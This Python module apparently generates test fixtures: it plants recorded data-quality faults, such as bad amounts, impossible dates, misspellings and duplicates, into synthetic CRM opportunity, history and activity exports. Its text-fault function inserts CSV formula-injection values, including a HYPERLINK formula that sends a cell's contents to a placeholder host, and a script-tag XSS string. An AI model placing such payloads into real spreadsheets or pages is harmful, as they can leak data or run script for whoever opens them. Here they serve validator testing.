"""Faults as real exports have them, planted in the dirty copy and written down one by one."""

import re
from datetime import date
from itertools import cycle

import numpy as np
import pandas as pd

from oppnb.sources.synthetic.planting import Garden

__all__ = ["plant_in_activities", "plant_in_history", "plant_in_opportunities"]


def plant_in_opportunities(garden: Garden, *, last_day: date) -> None:
    """Plant every fault of the opportunities; each row gets one at most."""
    _amounts(garden)
    _dates(garden)
    _texts(garden)
    _spellings(garden)
    _doubles(garden)
    _facts(garden, last_day)


def _is_open(garden: Garden) -> pd.Series:
    return garden.frame["Closed At"] == ""


def _amounts(garden: Garden) -> None:
    is_open, is_lost = _is_open(garden), garden.frame["Stage"] == "Lost"
    garden.put("open_deal_has_an_amount", "Amount", cycle([""]), garden.take(6, is_open))
    garden.put("amount_is_not_zero", "Amount", cycle(["¥0.00"]), garden.take(4, is_lost))
    rows = garden.take(2, is_lost)
    texts = ["-" + text for text in garden.frame.loc[rows, "Amount"]]
    garden.put("amount_is_not_negative", "Amount", texts, rows)
    rows = garden.take(5, is_open)
    garden.frame.loc[rows, "Amount"] = [re.sub("^[¥$]", "€", text) for text in garden.frame.loc[rows, "Amount"]]
    note = "exchange_rates.csv has no EUR"
    garden.put("currency_has_an_exchange_rate", "Amount Currency", cycle(["EUR"]), rows, note=note)


def _dates(garden: Garden) -> None:
    is_open, closed_at = _is_open(garden), garden.frame["Closed At"]
    rows = garden.take(3, closed_at != "")
    garden.put("closed_at_is_not_before_created_at", "Closed At", cycle(["05/12/2022 10:00"]), rows)
    garden.put("date_is_possible", "Close Date", cycle(["31/02/2026"]), garden.take(2, is_open))
    garden.put("date_is_not_a_placeholder", "Close Date", cycle(["00/00/0000"]), garden.take(1, is_open))
    day = pd.to_numeric(garden.frame["Close Date"].str.slice(0, 2), errors="coerce")
    rows = garden.take(4, is_open & (day > 12))
    texts = [re.sub(r"^(\d\d)/(\d\d)/", r"\2/\1/", text) for text in garden.frame.loc[rows, "Close Date"]]
    garden.put("date_order_is_the_same_in_all_rows", "Close Date", texts, rows, note="M/D/Y in a D/M/Y column")


def _texts(garden: Garden) -> None:
    garden.put("name_is_text_not_null", "Opportunity Name", cycle(["NA", "None"]), garden.take(4), note="text, no null")
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
    garden.put("name_is_no_formula", "Opportunity Name", cycle([formula, "+1+1", "@SUM(A1)"]), garden.take(3))
    script = "<script>alert(1)</script>"
    garden.put("name_is_no_script", "Opportunity Name", cycle([script]), garden.take(2))
    rows = garden.take(5)
    texts = [f"{text}  " for text in garden.frame.loc[rows, "Opportunity Owner"]]
    garden.put("text_has_no_outer_blanks", "Opportunity Owner", texts, rows)


def _spellings(garden: Garden) -> None:
    frame = garden.frame
    garden.put("stage_is_in_the_configuration", "Stage", cycle(["On Hold", "搁置"]), garden.take(4, _is_open(garden)))
    rows = garden.take(12, frame["Product"].str.contains(" "))
    texts = [text.replace(" ", "") for text in frame.loc[rows, "Product"]]
    garden.put(
        "product_is_spelt_as_in_line_items", "Product", texts, rows, note="the blank is missing, e.g. InsightSuite"
    )
    rows = garden.take(3, frame["Account Name"].str.contains("有限公司"))
    texts = [text.replace("有限公司", "公司") for text in frame.loc[rows, "Account Name"]]
    garden.put("account_id_is_in_accounts", "Account Name", texts, rows, note="likely spelling: with 有限公司")
    rows = garden.take(4, frame["Opportunity Owner"].str.contains(" "))
    texts = [_swap_letters(text) for text in frame.loc[rows, "Opportunity Owner"]]
    garden.put("owner_id_is_in_owners", "Opportunity Owner", texts, rows, note="the last two letters are swapped")


def _swap_letters(text: str) -> str:
    """Swap the last two letters; double the last one if they are alike."""
    return text + text[-1] if text[-1] == text[-2] else text[:-2] + text[-1] + text[-2]


def _doubles(garden: Garden) -> None:
    exact = garden.frame.loc[garden.take(4)]
    garden.note("row_is_not_repeated", None, garden.append(exact))
    same_id = garden.frame.loc[garden.take(3, _is_open(garden))].copy()
    same_id["Amount"], same_id["Next Step"] = "¥99,000.00", "duplicate entry"
    garden.note("key_is_there_once", "Opportunity ID", garden.append(same_id))
    near = garden.frame.loc[garden.take(3, _is_open(garden))].copy()
    near["Opportunity Name"] = near["Opportunity Name"].str.upper() + " "
    near["Opportunity ID"] = [f"9{number:04d}" for number in range(1, len(near) + 1)]
    garden.note(
        "opportunity_is_not_entered_twice", "Opportunity Name", garden.append(near), note="same but for case and id"
    )


def _facts(garden: Garden, last_day: date) -> None:
    """What is true of the file without planting: columns that the close fills, closes that are overdue."""
    frame = garden.frame
    expected = pd.to_datetime(frame["Close Date"], format="%d/%m/%Y", errors="coerce")
    overdue = _is_open(garden) & (expected < pd.Timestamp(last_day))
    rows = [int(row) for row in np.flatnonzero(overdue)]
    garden.note("open_deal_is_not_past_its_expected_close", "Close Date", rows, note="among dates that can be read")
    filled = [int(row) for row in frame.index[frame["Contract Number"] != ""]]
    garden.note("column_is_filled_alike_on_won_and_lost", "Contract Number", filled)
    filled = [int(row) for row in frame.index[frame["Loss Reason"] != ""]]
    garden.note("column_is_filled_alike_on_won_and_lost", "Loss Reason", filled)


def plant_in_history(garden: Garden) -> None:
    """Note the mix of zones, and add changes of deals that are not in the list."""
    frame = garden.frame
    stray = frame.loc[garden.take(3)].assign(**{garden.key: ["88801", "88802", "88803"]})
    garden.note("opportunity_id_is_in_opportunities", garden.key, garden.append(stray))
    text = garden.frame["Edit Date"]
    for style, pattern in (("Z", "Z$"), ("+08:00", r"\+08:00$"), ("none", r":\d\d$(?<!\+08:00)")):
        rows = [int(row) for row in np.flatnonzero(text.str.contains(pattern))]
        garden.note("moments_have_one_time_zone_style", "Edit Date", rows, note=f"zone: {style}")


def plant_in_activities(garden: Garden) -> None:
    """Activities of unknown deals, and activities that lie after the export."""
    rows = garden.take(5)
    garden.frame.loc[rows, garden.key] = [f"777{number:02d}" for number in range(1, len(rows) + 1)]
    garden.note("opportunity_id_is_in_opportunities", garden.key, rows)
    garden.put("occurred_at_is_not_after_the_export", "跟进时间", cycle(["2062/03/14 09:30"]), garden.take(2))
